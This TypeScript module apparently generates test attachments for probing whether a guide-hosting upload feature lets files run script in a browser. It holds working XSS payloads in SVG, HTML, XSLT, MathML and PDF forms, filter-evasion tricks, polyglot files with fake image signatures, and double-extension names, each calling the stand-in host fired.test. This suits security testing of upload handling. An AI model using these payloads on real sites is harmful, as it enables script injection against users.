import { gzipSync } from 'node:zlib'

/** A file attached to a guide to make a browser act for its author. */
/** Requested by anything that acts, with the name of the file behind a slash. */
const FIRED = 'http://fired.test'

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60"'

const fire = (name: string): string => `new Image().src='${FIRED}/${name}'`
const html = (name: string): string => `<!doctype html><title>x</title><script>${fire(name)}</script>`
/** Acts without a script in all the ways that HTML has. */
const still = (name: string): string =>
  `<html><meta http-equiv="refresh" content="0;url=${FIRED}/${name}"><link rel="stylesheet" href="${FIRED}/${name}"><img src="${FIRED}/${name}">
   <iframe src="${FIRED}/${name}"></iframe><object data="${FIRED}/${name}"></object><form action="${FIRED}/${name}"></form>`
const xhtml = (name: string): string =>
  `<?xml version="1.0"?><html ${XHTML}><head><title>x</title></head><body><script>${fire(name)}</script></body></html>`
const svg = (name: string): string =>
  `<svg ${SVG}><script>${fire(name)}</script><image href="${FIRED}/${name}" width="9" height="9"/></svg>`
const styled = (name: string): string => `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${FIRED}/${name}"?><a>x</a>`
const mathml = (name: string): string =>
  `<?xml version="1.0"?><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><script ${XHTML}>${fire(name)}</script></mtext></math>`
const script = (name: string): string => `${fire(name)};`
const mhtml = (name: string): string =>
  `From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html(name)}\r\n--b--\r\n`
const manifest = (name: string): string => `{"name":"${html(name)}","icons":[{"src":"${FIRED}/${name}"}],"start_url":"${FIRED}/${name}"}`
const feed = (name: string): string =>
  `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><description>${html(name).replaceAll('<', '&lt;')}</description></item></channel></rss>`
const shortcut = (name: string): string => `[InternetShortcut]\nURL=${FIRED}/${name}\n`

/** Transforms a drawing into a script. */
const sheet = (name: string): string =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script ${XHTML}>${fire(name)}</script></xsl:template></xsl:stylesheet>`

/** Drawings that act, redirect or load when a browser opens them by themselves. */
const DRAWINGS: Record<string, (name: string) => string | Buffer> = {
  script: (name) => `<svg ${SVG}><script>${fire(name)}</script></svg>`,
  'prefix-with-a-dot': (name) => `<svg ${SVG}><a.b:script xmlns:a.b="http://www.w3.org/2000/svg">${fire(name)}</a.b:script></svg>`,
  'prefix-that-is-no-ASCII': (name) => `<svg ${SVG}><é:script xmlns:é="http://www.w3.org/2000/svg">${fire(name)}</é:script></svg>`,
  'script-of-XHTML': (name) => `<svg ${SVG}><script ${XHTML}>${fire(name)}</script></svg>`,
  'script-from-an-address': (name) => `<svg ${SVG}><script xlink:href="data:text/javascript,${fire(name)}"/></svg>`,
  load: (name) => `<svg ${SVG} onload="${fire(name)}"/>`,
  'load-of-a-part': (name) => `<svg ${SVG}><image href="/none" onerror="${fire(name)}"/></svg>`,
  entity: (name) => `<!DOCTYPE svg [<!ENTITY s "${fire(name).replaceAll("'", '&#39;')}">]><svg ${SVG}><script>&s;</script></svg>`,
  'ISO-2022-JP': (name) =>
    Buffer.from(`<?xml version="1.0" encoding="ISO-2022-JP"?><svg ${SVG}><title>\x1b(J</title><script>${fire(name)}</script></svg>`),
  'UTF-16': (name) =>
    Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?><svg ${SVG}><script>${fire(name)}</script></svg>`, 'utf16le'),
  XSLT: (name) => `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(sheet(name))}"?><svg ${SVG}/>`,
  frame: (name) =>
    `<svg ${SVG}><foreignObject width="90" height="60"><iframe ${XHTML} srcdoc="&lt;script>parent.${fire(name)}&lt;/script>"/></foreignObject></svg>`,
  refresh: (name) =>
    `<svg ${SVG}><foreignObject><meta ${XHTML} http-equiv="refresh" content="0;url=${FIRED}/${name}"/></foreignObject></svg>`,
  'link-with-an-entity': (name) => `<svg ${SVG}><a href="jav&#x61;script:${fire(name)}"><rect width="90" height="60"/></a></svg>`,
  'link-that-is-set': (name) =>
    `<svg ${SVG}><a><set attributeName="href" to="javascript:${fire(name)}"/><rect width="90" height="60"/></a></svg>`,
  'link-that-is-moved': (name) =>
    `<svg ${SVG}><a><animate attributeName="href" values="javascript:${fire(name)}"/><rect width="90" height="60"/></a></svg>`,
  'link-elsewhere': (name) => `<svg ${SVG}><a href="${FIRED}/${name}"><rect width="90" height="60"/></a></svg>`,
  'what-is-used': (name) => `<svg ${SVG}><use href="${FIRED}/${name}#a"/></svg>`,
  'a-picture': (name) => `<svg ${SVG}><image href="${FIRED}/${name}" width="9" height="9"/></svg>`,
  'a-style-sheet': (name) => `<svg ${SVG}><style>@import "${FIRED}/${name}";</style></svg>`,
  'a-style': (name) =>
    `<svg ${SVG}><style>rect{fill:u\\72l(${FIRED}/${name})}*{cursor:url(${FIRED}/${name}),auto}</style><rect width="90" height="60"/></svg>`,
  'a-font': (name) =>
    `<svg ${SVG}><style>@font-face{font-family:a;src:url(${FIRED}/${name})}text{font-family:a}</style><text y="20">a</text></svg>`,
}

/** A file of one empty page that acts when it is opened. */
function pdf(catalog: string): string {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>',
  ]
  const body = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`)
  const head = '%PDF-1.7\n'
  const places = body.map((_, at) => head.length + body.slice(0, at).join('').length)
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const whole = head + body.join('')
  return `${whole}xref\n0 4\n0000000000 65535 f \n${rows}trailer<</Size 4/Root 1 0 R>>\nstartxref\n${whole.length}\n%%EOF\n`
}

/** Behind the signature of another kind: a sniffer recognises it by one of `starts`. */
const STARTS: Record<string, Buffer> = {
  'polyglot.gif': Buffer.from('GIF89a=1;/*\x01\x00'),
  'polyglot.png': Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d', 'hex'),
  'polyglot.jpg': Buffer.from('ffd8fffe00ff', 'hex'),
  'polyglot.bmp': Buffer.from('BM=1;/*'),
  'polyglot.webp': Buffer.from('RIFF=1;/*WEBPVP8 '),
  'polyglot.mp4': Buffer.from('\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41'),
  'polyglot.webm': Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d', 'hex'),
  'polyglot.ogv': Buffer.from('OggS\0\x02'),
  'polyglot.pdf': Buffer.from('%PDF-1.7\n'),
  'polyglot.zip': Buffer.from('PK\x03\x04'),
  'polyglot.wasm': Buffer.from('\0asm\x01\0\0\0'),
  'polyglot.swf': Buffer.from('FWS\x08'),
  'polyglot.woff2': Buffer.from('wOF2\0\x01\0\0'),
  'polyglot.ttf': Buffer.from('\0\x01\0\0\0\x04'),
  'polyglot.docx': Buffer.from('PK\x03\x04word'),
  'spaces.txt': Buffer.from('\t\n\f\r \v'),
  'blank.txt': Buffer.from(' '.repeat(5000)),
  'blank.step': Buffer.from('\n'.repeat(5000)),
  'nulls.txt': Buffer.from('\0\0'),
  'mark.txt': Buffer.from('efbbbf', 'hex'),
  'words.md': Buffer.from('# Words\n\n'),
  'words.csv': Buffer.from('=HYPERLINK(1);'),
  'words.rtf': Buffer.from('{\\rtf1 '),
  'words.stl': Buffer.from('solid '),
  'words.gcode': Buffer.from('; '),
}

const ENDINGS: readonly (readonly [endings: string, make: (name: string) => string])[] = [
  ['html htm shtml xht txt md csv step stl skp 3mf doc rtf bin hta php jsp phtml HTML', html],
  ['html htm txt dxf', still],
  ['xhtml xht xml rdf xul', xhtml],
  ['svg SVG xml txt', svg],
  ['xml xsl xslt dtd', styled],
  ['mml mathml xml', mathml],
  ['js mjs css json txt vtt', script],
  ['mht mhtml eml', mhtml],
  ['webmanifest json', manifest],
  ['rss atom xml', feed],
  ['url desktop webloc', shortcut],
]

/** Ambiguous extensions, and one that a host may find in the middle of the name. */
const DOUBLE = 'pdf.html html.pdf jpg.svg svg.jpg html.txt txt.html html.zip html%00.txt html;.txt html. html%20'.split(' ')

/** Files by their names: `double.pdf.html`. */
export const ATTACHMENTS: readonly { name: string; bytes: Buffer }[] = [
  ...ENDINGS.flatMap(([endings, make]) => endings.split(' ').map((ending) => attachment(`${make.name}.${ending}`, make))),
  ...DOUBLE.map((ending) => attachment(`double.${ending}`, ending.includes('svg') ? svg : html)),
  ...Object.entries(DRAWINGS).map(([name, make]) => attachment(`drawing ${name}.svg`, make)),
  ...Object.entries(STARTS).map(([name, start]) => ({
    name,
    bytes: Buffer.concat([start, Buffer.from(`*/${script(name)}${html(name)}`)]),
  })),
  { name: 'utf-16.html', bytes: Buffer.from(`\ufeff${html('utf-16.html')}`, 'utf16le') },
  { name: 'utf-16.txt', bytes: Buffer.from(`\ufeff${html('utf-16.txt')}`, 'utf16le') },
  { name: 'packed.svgz', bytes: gzipSync(svg('packed.svgz')) },
  { name: 'packed.html.gz', bytes: gzipSync(html('packed.html.gz')) },
  { name: 'link.pdf', bytes: Buffer.from(pdf(`/OpenAction<</S/URI/URI(${FIRED}/link.pdf)>>`)) },
  { name: 'submit.pdf', bytes: Buffer.from(pdf(`/OpenAction<</S/SubmitForm/F<</FS/URL/F(${FIRED}/submit.pdf)>>>>`)) },
  {
    name: 'script.pdf',
    bytes: Buffer.from(
      pdf(`/OpenAction<</S/JavaScript/JS(this.submitForm\\('${FIRED}/script.pdf'\\);app.launchURL\\('${FIRED}/script.pdf'\\))>>`),
    ),
  },
]

function attachment(name: string, make: (name: string) => string | Buffer) {
  return { name, bytes: Buffer.from(make(encodeURIComponent(name))) }
}
